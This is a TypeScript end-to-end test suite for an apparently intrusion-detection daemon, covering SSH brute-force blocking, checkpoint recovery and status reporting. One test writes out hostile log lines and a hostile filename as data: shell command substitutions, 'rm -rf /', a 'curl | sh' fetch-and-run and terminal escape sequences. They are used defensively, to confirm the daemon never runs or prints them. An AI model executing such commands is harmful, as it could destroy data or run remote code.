import { existsSync, readFileSync, rmSync, statSync } from 'node:fs';
import path from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { StatusReport } from '../../agent/src/status/report.ts';
import { AgentProcess, cli, runWriter, type Sandbox, sandbox, status, waitFor } from './support/agent-process.ts';
import { testBundle } from './support/test-bundle.ts';

let bundleDir: string;
const running: AgentProcess[] = [];
const sandboxes: Sandbox[] = [];

beforeAll(async () => {
  bundleDir = await testBundle();
}, 60_000);

afterEach(async () => {
  for (const a of running.splice(0)) if (a.child.exitCode === null) await a.kill('SIGKILL');
  for (const s of sandboxes.splice(0)) rmSync(s.root, { recursive: true, force: true });
});

function newSandbox(extra?: Record<string, unknown>): Sandbox {
  const sb = sandbox(bundleDir, extra);
  sandboxes.push(sb);
  return sb;
}

async function start(sb: Sandbox): Promise<AgentProcess> {
  const a = await AgentProcess.start(sb);
  running.push(a);
  return a;
}

const ATTACKER = '45.155.205.7';

describe('vigil-agent daemon end to end (child process, real files, real socket)', () => {
  it('detects an SSH brute force, records a dry-run block, and reports it over the 0600 socket', async () => {
    const sb = newSandbox();
    const agent = await start(sb);
    expect(statSync(sb.socket).mode & 0o777).toBe(0o600);
    await runWriter({ file: sb.authLog, lines: 300, perSecond: 400, ip: ATTACKER });
    const size = statSync(sb.authLog).size;
    const report = await waitFor('a block recorded and every byte acked', async () => {
      const r = await status(sb);
      const f = r.sources[0]?.files.find((x) => x.path === sb.authLog);
      return f?.ackedOffset === size && r.actions.total > 0 && r;
    });
    const cmd = await cli(['status', '--json', '--socket', sb.socket]);
    expect(cmd.code).toBe(0);
    const json = JSON.parse(cmd.stdout) as StatusReport;
    expect(json.health.state).toBe('ok');
    expect(json.sources[0].files[0]).toMatchObject({ path: sb.authLog, ackedOffset: size, size, lagBytes: 0 });
    expect(json.pipeline).toMatchObject({ lines: 300, events: 300, parseErrors: 0 });
    expect(json.anomalies.total).toBeGreaterThanOrEqual(1);
    expect(json.anomalies.recent.map((a) => a.entity)).toContain(`ip:${ATTACKER}`);
    expect(json.actions.byOutcome['block-ip executed (dry-run)']).toBe(1);
    expect(json.actions.blocks.map((b) => b.ip)).toEqual([ATTACKER]);
    expect(json.model.version).toBe(report.model.version);
    const actions = await cli(['actions', 'list', '--json', '--socket', sb.socket]);
    const list = JSON.parse(actions.stdout) as {
      playbook: string;
      decision: string;
      target: string;
      dryRun: boolean;
    }[];
    expect(list).toContainEqual(
      expect.objectContaining({ playbook: 'block-ip', decision: 'executed', target: ATTACKER, dryRun: true }),
    );
    const human = await cli(['status', '--socket', sb.socket]);
    expect(human.stdout).toMatch(/health: OK/);
    expect(human.stdout).toContain(`blocked ${ATTACKER}`);
    const unblock = await cli(['unblock', ATTACKER, '--socket', sb.socket]);
    expect(unblock.code).toBe(0);
    expect((await status(sb)).actions.blocks).toEqual([]);
    expect(await agent.kill('SIGTERM')).toBe(0);
    expect(existsSync(sb.socket)).toBe(false);
  });

  it('resumes from its checkpoint after SIGKILL mid-stream: every line is processed, none skipped', async () => {
    const sb = newSandbox();
    const first = await start(sb);
    const writing = runWriter({ file: sb.authLog, lines: 4000, perSecond: 2000, ip: '192.0.2.10', startPort: 20000 });
    await waitFor('some lines processed', async () => (await status(sb)).pipeline.lines > 500);
    await first.kill('SIGKILL');
    await writing;
    const db = new DatabaseSync(path.join(sb.root, 'state/agent.db'), { readOnly: true });
    const cp = db.prepare('SELECT byte_offset AS offset, line_no AS lineNo FROM checkpoints').get() as {
      offset: number;
      lineNo: number;
    };
    db.close();
    expect(cp.lineNo).toBeGreaterThan(0);
    expect(cp.lineNo).toBeLessThan(4000);
    const lineNoAtOffset = readFileSync(sb.authLog).subarray(0, cp.offset).toString('utf8').split('\n').length - 1;
    expect(lineNoAtOffset).toBe(cp.lineNo); // the checkpoint sits on a line boundary
    await start(sb);
    const size = statSync(sb.authLog).size;
    const r = await waitFor('the rest processed', async () => {
      const s = await status(sb);
      return s.sources[0]?.files[0]?.ackedOffset === size && s;
    });
    // The restarted agent read exactly the lines after the checkpoint: with the lines acked before the kill, all 4000.
    expect(r.pipeline.lines).toBe(4000 - cp.lineNo);
    expect(r.pipeline.parseErrors).toBe(0);
  });

  it('keeps hostile log content away from any shell and out of the terminal', async () => {
    const sb = newSandbox({
      sources: {
        files: {
          startAt: 'beginning',
          pollIntervalMs: 50,
          paths: [{ path: '/var/log/app/*.log', kind: 'ec2.syslog' }],
        },
        process: { enabled: false },
        disk: { enabled: false },
      },
    });
    const pwned = path.join(sb.root, 'pwned');
    const hostileName = path.join(sb.log, 'app', 'x\u001b[31mred\u009b2J;$(touch pwned).log');
    const { mkdirSync, writeFileSync } = await import('node:fs');
    mkdirSync(path.dirname(hostileName));
    writeFileSync(hostileName, 'not a syslog line \u001b]0;title\u0007\n');
    await start(sb);
    const hostile = [
      `sshd[1]: Failed password for invalid user $(touch ${pwned}) from ${ATTACKER} port 1 ssh2`,
      `sshd[1]: Failed password for invalid user \`touch ${pwned}\`;rm -rf / from ${ATTACKER} port 2 ssh2`,
      `sudo:  a'b"c\u001b[2J : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c "$(curl -s http://x/y | sh)"; touch ${pwned}`,
      `sshd[1]: Failed password for invalid user \u001b[31m\u202eevil from ${ATTACKER} port 3 ssh2`,
    ];
    await runWriter({ file: sb.authLog, lines: 200, perSecond: 1000, ip: ATTACKER, hostile });
    await waitFor('the action', async () => (await status(sb)).actions.total > 0);
    const json = await cli(['status', '--json', '--socket', sb.socket]);
    const human = await cli(['status', '--socket', sb.socket]);
    const actions = await cli(['actions', 'list', '--socket', sb.socket]);
    for (const out of [json.stdout, human.stdout, actions.stdout]) {
      expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
    }
    const report = JSON.parse(json.stdout) as StatusReport;
    expect(report.pipeline.parseErrors).toBe(1);
    expect(report.pipeline.recentRejected[0].file).toBe(hostileName);
    expect(human.stdout).toContain('\\e[31mred\\u009b2J;$(touch pwned).log');
    expect(existsSync(pwned)).toBe(false);
    expect(existsSync(path.join(sb.root, 'var/log/app/pwned'))).toBe(false);
  });

  it('status says clearly that the daemon is not running and exits non-zero', async () => {
    const sb = newSandbox();
    const r = await cli(['status', '--socket', sb.socket]);
    expect(r.code).toBe(3);
    expect(r.stderr).toMatch(/vigil-agent is not running/);
    const viaConfig = await cli(['status', '--json', '--config', sb.configFile]);
    expect(viaConfig.code).toBe(3);
  });

  it('runs the process and disk samplers into the same pipeline and reports their cost', async () => {
    const sb = newSandbox({
      sources: {
        files: { startAt: 'beginning', pollIntervalMs: 50 },
        process: { intervalMs: 1000 },
        disk: { intervalMs: 1000, paths: ['/'] },
      },
    });
    await start(sb);
    const r = await waitFor('samples through the pipeline', async () => {
      const s = await status(sb);
      const kinds = s.sources.filter((x) => (x.sampling?.samples ?? 0) >= 2).map((x) => x.kind);
      return kinds.includes('process') && kinds.includes('disk') && s.pipeline.events > 0 && s;
    });
    const proc = r.sources.find((s) => s.kind === 'process')!;
    expect(proc.sampling).toMatchObject({ intervalMs: 1000, errors: 0 });
    expect(proc.sampling!.meanMs).toBeGreaterThan(0);
    expect(r.pipeline.parseErrors).toBe(0);
  });
});
